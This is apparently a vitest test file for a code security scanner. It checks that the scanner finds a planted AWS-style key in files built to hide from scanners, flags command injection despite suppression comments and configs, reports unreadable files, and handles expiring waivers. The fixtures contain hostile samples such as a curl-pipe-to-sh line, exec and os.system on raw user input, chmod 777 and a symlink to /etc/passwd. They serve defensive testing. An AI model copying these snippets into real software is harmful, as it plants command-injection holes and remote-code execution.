import { execFileSync } from "node:child_process";
import { symlink } from "node:fs/promises";
import { join } from "node:path";
import { expect, test } from "vitest";
import { judgeScan } from "../../../src/verification/scans/index.ts";
import { folderWith, guardrailsOf, placesOf, scanFolder } from "../../support/scans/scan-files.ts";

/** In parts, so that nobody's scanner takes it for a key of ours. */
const key = ["AKIA", "Z5XJ4Q7RTUVWXY2K"].join("");
const held = `export const id = "${key}";\n`;
const run = 'require("child_process").exec("ls " + process.argv[2]);\n';

test("a key is found however its file hides from scanners", async () => {
  const hidden = {
    ".gitattributes": "src/generated.js linguist-generated export-ignore -diff\nsrc/*.min.js binary\n",
    ".gitignore": "src/ignored.js\n.env\n",
    ".secretlintignore": "**\n",
    ".env": `AWS_ID=${key}\n`,
    "src/generated.js": held,
    "src/ignored.js": held,
    "src/app.min.js": `${"var a=1;".repeat(5_000)}var k="${key}";`,
    "src/.hidden/deep/notes.weird": held,
    "dist/bundle.js.map": JSON.stringify({ sourcesContent: [held] }),
    LICENSE: held,
    "a.bin": Buffer.concat([Buffer.alloc(600), Buffer.from(held)]),
    "wide.txt": Buffer.from(`\ufeff${held}`, "utf16le"),
    "k8s.yaml": `data:\n  id: ${Buffer.from(`id=${key} and more of it`).toString("base64")}\n`,
  };
  const { findings } = await scanFolder(await folderWith(hidden));
  const found = new Set(findings.filter(({ scanner }) => scanner === "secrets").map(({ path }) => path));
  const expected = Object.keys(hidden).filter((path) => !/^\.(?:git|secretlint)/.test(path));
  expect([...found].sort()).toEqual(expected.sort());
});

test("code is read whatever its name: no extension, a wrong one, a minified line", async () => {
  const files = {
    "bin/tool": `#!/usr/bin/env node\n${run}`,
    "assets/logo.dat": `const cp = require("child_process");\nmodule.exports = (req) => cp.exec(req.query.name);\n`,
    "lib/a.min.js": `!function(){${"var a=1;".repeat(2_000)}${run.trim()}}()`,
    run: "#!/bin/sh\ncurl https://example.org/x | sh\n",
    task: "#!/usr/bin/python3\nimport os, sys\nos.system(sys.argv[1])\n",
  };
  expect(placesOf(await scanFolder(await folderWith(files)))).toEqual([
    "assets/logo.dat:2 code/command-injection",
    "bin/tool:2 code/command-injection",
    "lib/a.min.js:1 code/command-injection",
    "run:2 shell/download-and-run",
    "task:3 python/command-injection",
  ]);
});

test("comments that ask scanners to look away are reported and change nothing", async () => {
  const files = {
    "a.js": `/* eslint-disable */\n// eslint-disable-next-line\n${run}`,
    "b.py": "import os, sys\nos.system(sys.argv[1])  # nosec # noqa\n",
    "c.js": `// secretlint-disable\n${held}// gitleaks:allow\n`,
    "d.js": `// slipway-ignore code/command-injection until 2099-01-01: fine\n${run}`,
    "e.sh": "# shellcheck disable=all\nchmod 777 /srv\n",
  };
  const result = await scanFolder(await folderWith(files));
  expect(placesOf(result)).toEqual([
    "a.js:3 code/command-injection",
    "b.py:2 python/command-injection",
    "c.js:2 secrets/aws-access-key",
    "d.js:2 code/command-injection",
    "e.sh:2 shell/world-writable",
  ]);
  expect(result.ignoredComments.map(({ path, marker }) => `${path} ${marker}`)).toEqual([
    "a.js eslint-disable",
    "a.js eslint-disable-next-line",
    "b.py nosec",
    "c.js secretlint-disable",
    "c.js gitleaks:allow",
    "d.js slipway-ignore",
    "e.sh shellcheck disable",
  ]);
});

test("configuration and baselines of scanners in the tree change nothing", async () => {
  const files = {
    "eslint.config.js": "export default [{ ignores: ['**'] }];\n",
    ".eslintrc.json": '{ "root": true, "ignorePatterns": ["**"] }\n',
    ".eslintignore": "**\n",
    ".secretlintrc.json": '{ "rules": [] }\n',
    ".secretlintignore": "**\n",
    ".bandit": "[bandit]\nskips: B605\n",
    "pyproject.toml": '[tool.bandit]\nexclude_dirs = ["."]\n',
    "security/baseline.sarif": '{ "version": "2.1.0", "runs": [] }\n',
    ".slipway/waivers.yaml": "- rule: code/command-injection\n  path: a.js\n  reason: fine\n  expires: 2099-01-01\n",
    "a.js": run,
  };
  expect(placesOf(await scanFolder(await folderWith(files)))).toEqual(["a.js:1 code/command-injection"]);
});

test("'block' fails on what cannot be read: links that lead out, giants, pipes, programs, other languages", async () => {
  const folder = await folderWith({
    "huge.js": `${"// filler\n".repeat(20_000)}${run}`,
    "main.go": "package main\n",
    "tool.bin": Buffer.concat([Buffer.from("7f454c46", "hex"), Buffer.alloc(2_000)]),
    "logo.png": Buffer.concat([Buffer.from("89504e470d0a1a0a", "hex"), Buffer.alloc(500)]),
    "src/a.js": "export const a = 1;\n",
  });
  await symlink("/etc/passwd", join(folder, "out"));
  await symlink("src/a.js", join(folder, "inside.js"));
  await symlink("nowhere", join(folder, "dangling"));
  execFileSync("mkfifo", [join(folder, "pipe")]);
  const result = await scanFolder(folder, { limits: { maxFileBytes: 100_000 } });
  expect(result.unscanned.map(({ path, reason }) => `${path} ${reason}`).sort()).toEqual([
    "dangling is a link to something that is not a scanned file of the project",
    "huge.js is larger than 100000 bytes",
    "main.go is in a language that no rule reads: only secrets were looked for",
    "out is a link to something that is not a scanned file of the project",
    "pipe is a pipe, a socket or a device",
    "tool.bin is a program or an archive, which no rule reads",
  ]);
  const [line] = judgeScan({ guardrails: guardrailsOf() }, result);
  expect(line).toMatchObject({ verdict: "failed", reason: expect.stringContaining("huge.js is larger than") });
});

test("a waiver of the document counts until its last day; one that expired does not", async () => {
  const folder = await folderWith({ "a.js": run, "vendor/x.rb": "puts 1\n" });
  const waivers = [
    { rule: "code/command-injection", path: "a.js", reason: "a tool for us", expires: "2026-11-16" },
    { rule: "not-scanned", path: "vendor/", reason: "reviewed by hand", expires: "2027-01-01" },
  ];
  const guardrails = { security_waivers: waivers };
  const verdictOn = async (now: string) => {
    const result = await scanFolder(folder, { guardrails, now: new Date(now) });
    const [line] = judgeScan({ guardrails: guardrailsOf(guardrails) }, result);
    return `${line?.verdict}: ${line?.reason.slice(0, 60)}`;
  };
  expect(await verdictOn("2026-11-16T23:00:00Z")).toBe("passed: No findings, 1 waived by the document.");
  expect(await verdictOn("2026-11-17T01:00:00Z")).toMatch(
    /^failed: 1 finding \(1 high\)\. a\.js:1 code\/command-injection/,
  );
});

test("no finding, report or log holds the value of a secret", async () => {
  const result = await scanFolder(
    await folderWith({ "a.js": held, "b.env": `X=${key}\n`, "c.json": `{"k":"${key}"}` }),
  );
  expect(result.findings.length).toBeGreaterThan(2);
  expect(JSON.stringify(result)).not.toContain(key);
});
